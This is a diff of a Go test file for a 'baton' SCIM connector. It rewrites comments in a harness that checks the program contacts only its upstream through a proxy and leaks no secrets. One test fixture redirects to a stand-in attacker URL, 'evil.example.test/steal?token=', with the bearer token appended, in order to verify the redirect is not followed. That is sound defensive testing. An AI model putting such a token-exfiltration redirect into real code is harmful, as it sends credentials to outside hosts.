@@ -35,8 +35,8 @@ import (
 	sandboxed "baton/sandbox/perplexity"
 )
 
-// outside is everything beyond the machine: a proxy that every connection must go
-// through, and behind it the upstream, a collector, and nobody else.
+// outside is the network outside the machine: a proxy that every connection must use, and behind it the
+// upstream and a collector.
 type outside struct {
 	t     *testing.T
 	org   *sandboxed.Server
@@ -45,10 +45,10 @@ type outside struct {
 	ca    string            // PEM file
 
 	mu        sync.Mutex
-	asked     []string // of the proxy
+	asked     []string // hosts requested from the proxy
 	exported  bytes.Buffer
-	keys      []string                                      // Authorization that the collector saw
-	interfere func(http.ResponseWriter, *http.Request) bool // answers in the upstream's place, or adds to its answer
+	keys      []string                                      // Authorization headers at the collector
+	interfere func(http.ResponseWriter, *http.Request) bool // answers in place of the upstream, or adds to its answer
 }
 
 const (
@@ -75,7 +75,7 @@ func newOutside(t *testing.T) *outside {
 	return o
 }
 
-// authority makes the certificate that both servers show.
+// authority creates the certificate of both servers.
 func (o *outside) authority() tls.Certificate {
 	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	if err != nil {
@@ -95,7 +95,7 @@ func (o *outside) authority() tls.Certificate {
 	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
 }
 
-// connect is the proxy: it notes who is asked for, and opens the way to those it knows.
+// connect is the proxy: it records the requested host, and connects to known ones.
 func (o *outside) connect(w http.ResponseWriter, r *http.Request) {
 	o.mu.Lock()
 	o.asked = append(o.asked, r.Method+" "+r.Host)
@@ -120,7 +120,7 @@ func (o *outside) connect(w http.ResponseWriter, r *http.Request) {
 	go func() { io.Copy(here, there); here.Close() }()
 }
 
-// upstream is the sandbox, whose answers point everywhere but home.
+// upstream is the sandbox, with answers that point to other hosts.
 func (o *outside) upstream(w http.ResponseWriter, r *http.Request) {
 	o.mu.Lock()
 	interfere := o.interfere
@@ -155,13 +155,13 @@ func (o *outside) interferes(with func(http.ResponseWriter, *http.Request) bool)
 	o.interfere = with
 }
 
-// env is that of a process for which there is no way but the proxy.
+// env returns the environment of a process that must use the proxy.
 func (o *outside) env(more ...string) []string {
 	return append([]string{"BE_THE_PROGRAM=1", "PATH=" + os.Getenv("PATH"), "HTTPS_PROXY=http://somebody:" + proxyPassword + "@" + o.proxy.Listener.Addr().String(),
 		"BATON_SCIM_URL=https://" + upstreamHost + o.org.URLPath(), "BATON_SCIM_TOKEN=" + scimToken, "BATON_CA_FILE=" + o.ca, "BATON_LOG_LEVEL=debug"}, more...)
 }
 
-// went fails for every host that was asked for and is not among those.
+// went fails if another host was requested.
 func (o *outside) went(hosts ...string) {
 	o.t.Helper()
 	o.mu.Lock()
@@ -179,7 +179,7 @@ func (o *outside) went(hosts ...string) {
 	o.asked = nil
 }
 
-// oneShot runs the program once, in a folder, and returns everything that it wrote.
+// oneShot runs the program once in a folder, and returns all its output and files.
 func (o *outside) oneShot(dir string, args ...string) (code int, written string) {
 	o.t.Helper()
 	cmd := exec.Command(os.Args[0], args...)
@@ -192,7 +192,7 @@ func (o *outside) oneShot(dir string, args ...string) (code int, written string)
 	return cmd.ProcessState.ExitCode(), string(out)
 }
 
-// silent fails if a secret is in what was written.
+// silent fails if the text contains a secret.
 func silent(t *testing.T, where, written string, secrets ...string) {
 	t.Helper()
 	for _, s := range secrets {
@@ -202,8 +202,8 @@ func silent(t *testing.T, where, written string, secrets ...string) {
 	}
 }
 
-// content is every byte below a folder, unpacked where it is packed. It fails for a
-// file or folder that others can get at.
+// content returns all bytes below a folder, with packed files unpacked. It fails for a file or folder that
+// others can access.
 func content(t *testing.T, dir string) string {
 	t.Helper()
 	var all bytes.Buffer
@@ -239,7 +239,7 @@ func content(t *testing.T, dir string) string {
 	return all.String()
 }
 
-// echo answers with what it was asked, as some upstreams do.
+// echo answers with the request, as some upstreams do.
 func echo(status int) func(http.ResponseWriter, *http.Request) bool {
 	return func(w http.ResponseWriter, r *http.Request) bool {
 		w.Header().Set("Location", "https://evil.example.test/steal?token="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
@@ -249,8 +249,8 @@ func echo(status int) func(http.ResponseWriter, *http.Request) bool {
 	}
 }
 
-// TestTheTokenStaysHome: one-shot, the program goes to its upstream through the proxy
-// and to nobody else, wherever answers point; and no secret is in anything it writes.
+// TestTheTokenStaysHome: in one-shot mode, the program contacts only its upstream, through the proxy,
+// wherever answers point, and nothing that it writes contains a secret.
 func TestTheTokenStaysHome(t *testing.T) {
 	o := newOutside(t)
 	for name, tc := range map[string]struct {
@@ -292,9 +292,8 @@ func TestTheTokenStaysHome(t *testing.T) {
 	})
 }
 
-// TestTheServiceStaysHome: a service goes to its upstream and to the collector that it
-// was given, and to C1, which is on this machine here; no secret is in logs, metrics,
-// exports, answers, uploads or the state directory.
+// TestTheServiceStaysHome: a service contacts only its upstream, the configured collector and C1, which runs
+// on this machine here. Logs, metrics, exports, answers, uploads and the state directory contain no secret.
 func TestTheServiceStaysHome(t *testing.T) {
 	o := newOutside(t)
 	s := newServed(t)
@@ -379,7 +378,7 @@ func TestTheServiceStaysHome(t *testing.T) {
 	}
 }
 
-// clientEnv are the variables that lead to the control plane and the state.
+// clientEnv returns the variables for the control plane and the state.
 func clientEnv(env []string) (kept []string) {
 	for _, e := range env {
 		for _, prefix := range []string{"BATON_CLIENT_", "BATON_C1Z_TEMP_DIR=", "BATON_HOST_ID="} {
